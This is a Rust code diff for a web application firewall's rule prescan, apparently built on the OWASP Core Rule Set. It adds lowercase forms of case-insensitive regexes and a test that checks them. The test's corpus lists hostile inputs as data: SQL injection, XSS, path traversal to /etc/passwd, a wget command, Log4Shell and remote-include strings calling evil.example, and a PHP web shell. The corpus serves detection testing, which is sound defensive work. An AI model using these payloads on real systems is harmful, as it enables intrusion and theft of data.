@@ -47,6 +47,7 @@ use smallvec::SmallVec;
 
 use crate::seclang::ast::{Transformation, Variable};
 
+use super::caseless;
 use super::compile::{Part, Sel, TargetSpec};
 use super::memo::Memo;
 use super::operator::{NumArg, Op, Rx};
@@ -164,9 +165,9 @@ impl Scans {
 /// A pattern of the prescan.
 #[derive(Debug)]
 enum Probe {
-    /// A regex, joined with the others into the automata; for a `@pm`, also its phrases
-    /// lowercased, to run alone on a value lowercased (see
-    /// [`Phrases::folded`](super::operator::Phrases::folded)).
+    /// A regex, joined with the others into the automata; when it does not tell cases apart,
+    /// also its lowercase form, to run alone on a value lowercased (see [`caseless`] and, for
+    /// a `@pm`, [`Phrases::folded`](super::operator::Phrases::folded)).
     Regex(regex::bytes::Regex, Option<regex::bytes::Regex>),
     /// A check: an operator no automaton takes (`@detectSQLi`, a long `@pmFromFile`, a
     /// negated `@rx`, ...) whose answer depends on the value alone, run on each form of a
@@ -654,7 +655,7 @@ fn eligible(part: &Part, checks: bool) -> Option<Probe> {
     // per-rule evaluation.
     let ordinary = [&b""[..], b"a", b"0", b"id", b"42"];
     let regex = match &**op {
-        Op::Rx(Rx::Linear(re) | Rx::Small(re, _)) => Some((re, None)),
+        Op::Rx(Rx::Linear(re) | Rx::Small(re, _)) => Some((re, caseless::lowercase_form(re.as_str()))),
         Op::Pm(phrases) => phrases.regex.as_ref().map(|re| (re, phrases.folded.clone())),
         _ => None,
     };
@@ -771,5 +772,65 @@ impl Group {
             false => Some((joint(&noisy)?, bits(&noisy))),
         };
         Some(Group { quiet, noisy })
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Attacks as CRS's patterns look for them, in their own case, upper case and mixed.
+    fn corpus() -> Vec<Vec<u8>> {
+        let attacks: [&[u8]; 16] = [
+            b"mosConfig_absolute_path=http://evil.example/x.txt?",
+            b"include(http://evil.example/shell.txt)",
+            b"1' UNION SELECT password FROM users--",
+            b"<script>alert(document.cookie)</script>",
+            b"<img src=x onerror=alert(1)>",
+            b"../../../etc/passwd",
+            b";cat /etc/passwd; wget http://x/y",
+            b"${jndi:ldap://evil.example/a}",
+            b"<?php system($_GET['c']); ?>",
+            b"java.lang.Runtime.getRuntime().exec('id')",
+            b"com.opensymphony.xwork2.ActionContext",
+            b"eval(base64_decode('cGhwaW5mbygpOw=='))",
+            b"cmd.exe /c dir C:\\Windows",
+            b"{{7*7}} ${7*7} <%= 7*7 %>",
+            b"__proto__[isAdmin]=true",
+            b"%uff1cscript%uff1e",
+        ];
+        let mixed = |v: &[u8]| {
+            v.iter().enumerate().map(|(i, b)| if i % 2 == 0 { b.to_ascii_uppercase() } else { *b }).collect()
+        };
+        let mut values: Vec<Vec<u8>> = BENIGN.iter().map(|v| v.to_vec()).collect();
+        for a in attacks {
+            values.extend([a.to_vec(), a.to_ascii_uppercase(), mixed(a)]);
+        }
+        values
+    }
+
+    #[test]
+    fn lowercase_forms_of_crs_patterns_answer_as_the_patterns_do() {
+        let rs = super::super::tests::crs(1);
+        let values = corpus();
+        let (mut forms, mut matches) = (0, 0);
+        for probe in &rs.prescan.probes {
+            let Probe::Regex(re, Some(lower)) = probe else { continue };
+            forms += 1;
+            for v in &values {
+                let holds = re.is_match(v);
+                assert_eq!(
+                    holds,
+                    lower.is_match(&v.to_ascii_lowercase()),
+                    "{} on {:?}",
+                    re.as_str(),
+                    String::from_utf8_lossy(v)
+                );
+                matches += usize::from(holds);
+            }
+        }
+        // Most of CRS's patterns are case-insensitive, and the attacks match dozens of them.
+        assert!(forms > 150, "{forms} lowercase forms");
+        assert!(matches > 300, "{matches} matches");
     }
 }
